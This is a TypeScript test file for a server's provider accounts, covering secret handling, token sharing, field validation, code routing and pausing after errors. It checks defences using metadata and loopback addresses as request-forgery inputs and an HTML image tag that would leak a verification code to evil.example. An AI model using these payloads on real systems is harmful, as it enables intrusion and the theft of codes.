/** Accounts at providers: secrets go in and never out, messages go through the default one, and errors hold it back. */
import type { ChannelAccountDetail, ChannelAccountKindDefinition } from '@countersign/sdk/api/contract';
import { type RawBuilder, sql } from 'kysely';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { accountAt, startMailServer } from '../../../channels/mail/testing/smtp.ts';
import { fakeChannel } from '../../../channels/testing/fake-channel.ts';
import { withTenant } from '../../../db/access.ts';
import { DEMO_COMPANY_ID } from '../../../demo/company.ts';
import { parseNetworkList } from '../../../outgoing/addresses.ts';
import { elsewhere, type Reply } from '../../../testing/client.ts';
import { describeServer } from '../../../testing/harness.ts';
import { ACCOUNTS, SECRETS, startProviders } from '../../../testing/providers.ts';
import { ApprovalDriver, approver } from '../../workflow/testing/approval-driver.ts';
import { lockAccountWithConnector } from './open.ts';
import { tokenStoreOf } from './tokens.ts';

const providers = await startProviders();
const smtp = await startMailServer();
const operatorMail = fakeChannel('email');
afterAll(async () => {
  await providers.stop();
  await smtp.stop();
});
const eventually = { timeout: 60_000, interval: 50 };

const SMS = {
  kind: 'sms-alibaba',
  name: '短信',
  config: { accessKeyId: 'id', signName: '华兴', templateCode: 'SMS_1' },
  secrets: { accessKeySecret: SECRETS.alibaba },
  isDefault: true,
};

describeServer(
  'accounts at providers',
  server => {
    const driver = new ApprovalDriver(server);
    const post = async <T>(path: string, body: object) => {
      const reply = await driver.post('admin', `message/account/${path}`, body);
      return { status: reply.status, data: reply.body.data as T, text: JSON.stringify(reply.body) };
    };
    const add = async (body: object) => (await post<{ accountId: string }>('add', body)).data.accountId;
    const detail = (accountId: string) =>
      driver.get<ChannelAccountDetail>('admin', `message/account/detail?accountId=${accountId}`);
    const inTenant = <T>(work: Parameters<typeof withTenant<T>>[2]) =>
      withTenant(server().db, DEMO_COMPANY_ID, work);

    beforeAll(() =>
      inTenant(tx =>
        tx
          .updateTable('appUser')
          .set({ phonenumber: '13800000000', email: 'zhang.wei@huaxing.test' })
          .where('userId', 'in', ['u-zhang-wei', 'u-admin'])
          .execute(),
      ),
    );
    beforeEach(() => {
      providers.accepted.length = 0;
      providers.faults.length = 0;
    });
    afterEach(() => inTenant(tx => tx.deleteFrom('channelAccount').execute()));

    it('send at their rate after the clock was set back by a day', async () => {
      await add(SMS);
      const lock = (account: { tokens: number; tokenTime: RawBuilder<Date> }) =>
        inTenant(async tx => {
          const wakeTime = sql<Date>`now() + interval '1 day'`;
          await tx
            .updateTable('channelAccount')
            .set({ ...account, wakeTime })
            .execute();
          const query = {
            merchantId: DEMO_COMPANY_ID,
            channel: 'sms',
            accountId: '',
            isForCodes: false,
          } as const;
          return lockAccountWithConnector(tx, { ...query, most: 10 });
        });
      const ahead = await lock({ tokens: 5, tokenTime: sql`now() + interval '1 day'` });
      expect(ahead?.allowed).toBe(5);
      const empty = await lock({ tokens: -100, tokenTime: sql`clock_timestamp()` });
      expect(empty).toMatchObject({ allowed: 0, wake: expect.any(Date) });
      expect(empty?.wake?.getTime()).toBeLessThan(Date.now() + 60_000);
    });

    it('are added, changed and removed, and no answer has a secret', async () => {
      const accountId = await add(SMS);
      const shown = await detail(accountId);
      expect(shown).toMatchObject({ hasSecret: true, secretsSet: ['accessKeySecret'], isDefault: true });
      expect(JSON.stringify(shown)).not.toContain(SECRETS.alibaba);
      const changed = { accountId, name: '通知短信', secrets: { accessKeySecret: '' }, version: 1 };
      expect((await post('update', changed)).status).toBe(200);
      expect((await post('update', { ...changed, name: 'x' })).status).toBe(409);
      const log = await driver.get('admin', 'log/operation/page?kind=channel-account&limit=50');
      expect(JSON.stringify(log)).not.toContain(SECRETS.alibaba);
      const { secret } = await inTenant(tx =>
        tx.selectFrom('channelAccount').select('secret').executeTakeFirstOrThrow(),
      );
      expect(secret).not.toContain(SECRETS.alibaba);
      expect((await post<{ isOk: boolean }>('test', { accountId })).data).toEqual({
        isOk: true,
        code: '',
        fix: '',
      });
      expect(providers.accepted).toMatchObject([{ path: 'alibaba', to: '13800000000' }]);
      await driver.get('admin', `message/account/delete?accountId=${accountId}`);
      expect((await post('test', { accountId })).status).toBe(404);
    });

    it('share a token: one of many at once renews it, also behind a refusal', async () => {
      const accountId = await add({ kind: 'wecom-app', name: 'app', ...ACCOUNTS['wecom-app'] });
      // Each store is that of a process: it remembers nothing by itself.
      const stores = [1, 2, 3, 4].map(() =>
        tokenStoreOf(server().db, { merchantId: DEMO_COMPANY_ID, accountId, version: 1 }),
      );
      let made = 0;
      const make = async () => {
        made += 1;
        return { token: `token-${made}`, seconds: 7200 };
      };
      const all = (refused?: string) => Promise.all(stores.map(store => store.get(make, refused)));
      expect(new Set(await all())).toEqual(new Set(['token-1']));
      expect(new Set(await all('token-1'))).toEqual(new Set(['token-2']));
      expect(made).toBe(2);
      const failing = () => Promise.reject(new Error('down'));
      await expect(stores[0]!.get(failing, 'token-2')).rejects.toThrow('down');
      expect(await stores[1]!.get(make, 'token-2')).toBe('token-3');
      const row = await inTenant(tx =>
        tx.selectFrom('channelToken').select('token').executeTakeFirstOrThrow(),
      );
      expect(row.token).not.toContain('token-3');
    });

    it('are held to the fields of their kind', async () => {
      const kinds = await driver.get<ChannelAccountKindDefinition[]>('admin', 'message/account/kinds');
      const names = kinds.find(({ kind }) => kind === SMS.kind)?.fields.map(({ name }) => name);
      expect(names).toEqual(
        expect.arrayContaining([...Object.keys(SMS.config), ...Object.keys(SMS.secrets)]),
      );
      const wrong: [object, string][] = [
        [{ ...SMS, kind: 'pigeon' }, 'kind'],
        [{ ...SMS, config: { ...SMS.config, templateCode: 'x y' } }, 'config.templateCode'],
        [{ ...SMS, config: { ...SMS.config, host: 'x' } }, 'config.host'],
        [{ ...SMS, config: { ...SMS.config, endpoint: 'https://x.example.com/' } }, 'config.endpoint'],
        [{ ...SMS, secrets: {} }, 'secrets.accessKeySecret'],
      ];
      for (const [body, field] of wrong) {
        const { status, data } = await post<{ fields: { field: string }[] }>('add', body);
        expect([status, data.fields[0]?.field]).toEqual([400, field]);
      }
    });

    it('of another host need their secret again; one default is left of a channel', async () => {
      const url = 'https://one.example.com/hook';
      const hook = { kind: 'webhook', name: 'hook', config: { url }, secrets: { secret: 'mine' } };
      const accountId = await add(hook);
      const config = { url: 'https://two.example.com/hook' };
      const moved = await post<{ fields: { field: string }[] }>('update', { accountId, config });
      expect([moved.status, moved.data.fields[0]?.field]).toEqual([400, 'secrets.secret']);
      expect((await post('update', { accountId, config, secrets: { secret: 'new' } })).status).toBe(200);
      const first = await add(SMS);
      const abroad = { ...SMS.config, endpoint: 'dysmsapi.ap-southeast-1.aliyuncs.com' };
      const turned = await post<{ fields: { field: string }[] }>('update', {
        accountId: first,
        config: abroad,
      });
      expect([turned.status, turned.data.fields[0]?.field]).toEqual([400, 'secrets.accessKeySecret']);
      const same = { ...SMS.config, endpoint: '', region: 'cn-hangzhou' };
      expect((await post('update', { accountId: first, config: same })).status).toBe(200);
      await add({ ...SMS, name: 'second' });
      expect((await detail(first)).isDefault).toBe(false);
    });

    it('a test answers a code alone, and reaches no address behind the guard', async () => {
      for (const url of ['http://127.0.0.2/', 'http://169.254.169.254/latest', 'http://[::1]:1/']) {
        const accountId = await add({
          kind: 'webhook',
          name: 'hook',
          config: { url },
          secrets: { secret: 'mine' },
        });
        const { data } = await post('test', { accountId });
        expect(data).toMatchObject({
          isOk: false,
          code: 'call-address-refused',
          fix: expect.stringContaining('公网'),
        });
      }
      for (const endpoint of ['127.0.0.2', '169.254.169.254', '0x7f.0.0.2']) {
        const accountId = await add({ ...SMS, config: { ...SMS.config, endpoint }, isDefault: false });
        const { data } = await post('test', { accountId });
        expect([endpoint, data]).toMatchObject([endpoint, { isOk: false, code: 'call-address-refused' }]);
      }
    });

    it('of mail send through their own server', async () => {
      const accountId = await add({ kind: 'mail', name: '邮件', ...accountAt(smtp) });
      const { data } = await post('test', { accountId });
      expect(data).toEqual({ isOk: true, code: '', fix: '' });
      expect(smtp.mails).toMatchObject([{ from: 'notice@huaxing.test', to: ['zhang.wei@huaxing.test'] }]);
      smtp.mails.length = 0;
    });

    describe('and verification codes', () => {
      const limited = (path: string, body: object) => driver.post('li.na', `message/account/${path}`, body);
      const codesTo = async (account: string, inbox: { length: number }) => {
        smtp.mails.length = 0;
        operatorMail.sent.length = 0;
        const asked = { purpose: 'reset', channel: 'email', account };
        const path = '/digital-portal/signIn/sendCode';
        await server().anonymous().send('POST', path, JSON.stringify(asked), elsewhere());
        await vi.waitFor(() => expect(inbox).toHaveLength(1), eventually);
        return [smtp.mails.length, operatorMail.sent.length];
      };
      const mailAccount = { kind: 'mail', name: '邮件', ...accountAt(smtp), isDefault: true };
      const fieldOf = ({ status, body }: Reply) => [
        status,
        (body.data as { fields?: { field: string }[] } | null)?.fields?.[0]?.field,
      ];

      beforeAll(async () => {
        const { body } = await driver.post('admin', 'role/add', {
          roleName: '消息',
          roleKey: 'messages',
          permissions: ['message:account:manage', 'message:template:manage'],
        });
        const { roleId } = body.data as { roleId: string };
        await driver.post('admin', 'role/addUsers', { roleId, userIds: ['u-li-na'] });
      });

      it('go round an account whose author could not reset the password of the receiver', async () => {
        const { data } = (await limited('add', mailAccount)).body;
        const { accountId } = data as { accountId: string };
        expect(await codesTo('zhang.wei', operatorMail.sent)).toEqual([0, 1]);
        const release = { carriesCodes: true };
        expect(fieldOf(await limited('update', { accountId, ...release }))).toEqual([400, 'carriesCodes']);
        expect(fieldOf(await limited('add', { ...mailAccount, ...release }))).toEqual([400, 'carriesCodes']);
        const { config } = mailAccount;
        const changed = { ...config, senderName: '华兴制造' };
        expect((await post('update', { accountId, ...release })).status).toBe(200);
        expect(await codesTo('admin', smtp.mails)).toEqual([1, 0]);
        expect((await limited('update', { accountId, name: '公司邮件', ...release })).status).toBe(200);
        expect((await detail(accountId)).carriesCodes).toBe(true);
        const moved = { accountId, config: changed };
        expect(fieldOf(await limited('update', { ...moved, ...release }))).toEqual([400, 'carriesCodes']);
        expect((await limited('update', moved)).status).toBe(200);
        expect((await detail(accountId)).carriesCodes).toBe(false);
        expect(await codesTo('zhang.wei', operatorMail.sent)).toEqual([0, 1]);
      });

      it('stay with the operator after a change of a secret, and for other kinds of accounts', async () => {
        const accountId = await add({ ...mailAccount, carriesCodes: true });
        const secrets = { password: 'another' };
        expect((await post('update', { accountId, secrets })).status).toBe(200);
        expect((await detail(accountId)).carriesCodes).toBe(false);
        const robot = {
          kind: 'dingtalk-robot',
          name: 'robot',
          ...ACCOUNTS['dingtalk-robot'],
          carriesCodes: true,
        };
        expect((await post<{ fields: object[] }>('add', robot)).data.fields).toMatchObject([
          { field: 'carriesCodes' },
        ]);
      });

      it('have no stored text with a picture, a link or an address', async () => {
        const html = '<p>{{code}}</p><img src="https://evil.example/p?c={{code}}">';
        const texts = { name: '码', kind: 'code', title: '验证码', text: '你的验证码：{{code}}。' };
        const template = (more: object) => driver.post('li.na', 'temp/letter/add', { ...texts, ...more });
        expect(fieldOf(await template({ html }))).toEqual([400, 'html']);
        const { data } = (await template({})).body;
        await codesTo('zhang.wei', operatorMail.sent);
        expect(operatorMail.sent[0]?.text).toMatch(/^你的验证码：\d{6}。$/);
        await inTenant(tx =>
          tx
            .updateTable('messageTemplate')
            .set({ content: sql`content || ${JSON.stringify({ html })}::jsonb` })
            .where('kind', '=', 'code')
            .execute(),
        );
        await codesTo('admin', operatorMail.sent);
        expect(operatorMail.sent[0]).toMatchObject({
          html: '',
          text: expect.stringContaining('5 分钟内有效'),
        });
        const { templateId } = data as { templateId: string };
        const status = { templateId, status: 'NORMAL' };
        expect(fieldOf(await driver.post('li.na', 'temp/letter/status', status))).toEqual([400, 'html']);
      });
    });

    it('carry notices; an error of the account holds it back, is told once, and its messages go out behind the change', async () => {
      const accountId = await add(SMS);
      providers.faults.push('account');
      const nodes = [approver('a', ['zhang.wei'])];
      const instanceId = await driver.start(
        await driver.publish({ nodes }),
        { amount: 1 },
        { itemName: '椅子' },
      );
      await vi.waitFor(
        async () => expect((await detail(accountId)).pausedCode).toBe('isv.AMOUNT_NOT_ENOUGH'),
        eventually,
      );
      await driver.start(await driver.publish({ nodes }));
      const paused = async () => {
        const { letterItems } = await driver.get<{ letterItems: { categoryCode: string }[] }>(
          'admin',
          'letter/message/tips',
        );
        return letterItems.filter(({ categoryCode }) => categoryCode === 'account-paused');
      };
      await vi.waitFor(async () => expect(await paused()).toHaveLength(1), eventually);
      expect(providers.accepted).toEqual([]);
      expect((await post('update', { accountId })).status).toBe(200);
      await vi.waitFor(
        () => expect(providers.accepted.some(({ text }) => text.includes('椅子'))).toBe(true),
        eventually,
      );
      const states = async () => {
        const path = `jflow/noticeLog?channel=sms&instanceId=${instanceId}`;
        const { list } = await driver.get<{ list: { state: string; tries: number }[] }>('admin', path);
        return list.map(({ state, tries }) => [state, tries]);
      };
      await vi.waitFor(async () => expect(await states()).toEqual([['sent', 1]]), eventually);
      expect(await paused()).toHaveLength(1);
    });
  },
  {
    server: {
      jobs: { pollMs: 50, noticeRetrySeconds: [0] },
      channels: [operatorMail],
      trustProxy: '127.0.0.1',
      channelEndpoints: providers.endpoints,
      outgoing: { networks: parseNetworkList('127.0.0.1/32')! },
    },
  },
);
